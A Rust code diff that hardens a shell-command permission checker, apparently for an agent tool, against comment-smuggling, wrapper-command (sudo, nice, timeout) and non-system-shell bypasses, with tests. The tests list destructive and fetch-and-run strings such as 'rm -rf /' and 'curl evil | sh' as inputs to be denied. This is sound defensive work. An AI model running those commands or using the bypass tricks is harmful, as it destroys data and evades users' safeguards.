@@ -46,11 +46,18 @@ const COMPOUND: &[char] = &[';', '|', '&', '>', '<', '\n', '\r', '(', ')'];
 pub fn is_simple(command: &str) -> bool {
     let mut single = false;
     let mut double = false;
+    // The character before, to see where a word starts (a `#` there begins a comment,
+    // which can hide a quote and so a second command on the next line).
+    let mut after = ' ';
     let mut chars = command.chars().peekable();
     while let Some(c) = chars.next() {
+        let word_start = after.is_whitespace();
+        after = c;
         match c {
+            '#' if !single && !double && word_start => return false,
             '\\' if !single => {
                 chars.next();
+                after = 'x';
             }
             '\'' if !double => single = !single,
             '"' if !single => double = !double,
@@ -85,6 +92,12 @@ pub fn pieces(command: &str) -> Vec<String> {
         {
             out.push(p.to_string());
             out.push(plain(p));
+            // Every word onwards too (`nice -n 10 rm -rf /`, `timeout 5 rm …`): a deny
+            // over-matches rather than misses.
+            let words: Vec<&str> = p.split_whitespace().take(64).collect();
+            for i in 1..words.len() {
+                out.push(plain(&words[i..].join(" ")));
+            }
             let words: Vec<&str> = p.split_whitespace().collect();
             if let Some(at) = words.iter().position(|w| *w == "-c" || *w == "-lc")
                 && at > 0
@@ -136,8 +149,17 @@ pub fn unwrap_shell(command: &str) -> &str {
     let Some((program, rest)) = c.split_once(' ') else {
         return c;
     };
-    let shell = program.rsplit('/').next().unwrap_or(program);
-    if !["sh", "bash", "zsh", "dash"].contains(&shell) {
+    // A bare shell name (found on PATH) or one in a system directory: `./bash` could be
+    // anything.
+    let (dir, shell) = program.rsplit_once('/').unwrap_or(("", program));
+    let system = [
+        "",
+        "/bin",
+        "/usr/bin",
+        "/usr/local/bin",
+        "/opt/homebrew/bin",
+    ];
+    if !["sh", "bash", "zsh", "dash"].contains(&shell) || !system.contains(&dir) {
         return c;
     }
     let rest = rest.trim_start();
@@ -207,6 +229,9 @@ mod tests {
         assert!(!is_simple("echo 'open"));
         assert!(!is_simple("cargo test $'\\'' ; curl evil | sh #'"));
         assert!(!is_simple("cargo test $\"x\""));
+        assert!(!is_simple("cargo test #'\nrm -rf ~ #'"));
+        assert!(!is_simple("cargo test # x"));
+        assert!(is_simple("echo a#b"));
         for c in [
             "cargo test; rm -rf ~",
             "cargo test && curl x",
@@ -233,6 +258,9 @@ mod tests {
             "\\rm -rf /",
             "sudo -E rm -rf /",
             "env A=b rm -rf /",
+            "sudo -u root rm -rf /",
+            "nice -n 10 rm -rf /",
+            "timeout 5 rm -rf /",
         ] {
             let p = pieces(c);
             assert!(p.iter().any(|x| matches("rm -rf*", x)), "{c}: {p:?}");
@@ -255,6 +283,11 @@ mod tests {
         );
         assert_eq!(unwrap_shell("cargo test"), "cargo test");
         assert_eq!(unwrap_shell("python -c 'x'"), "python -c 'x'");
+        assert_eq!(
+            unwrap_shell("./bash -c 'cargo test'"),
+            "./bash -c 'cargo test'"
+        );
+        assert_eq!(unwrap_shell("/usr/bin/sh -c 'cargo test'"), "cargo test");
     }
 
     #[test]
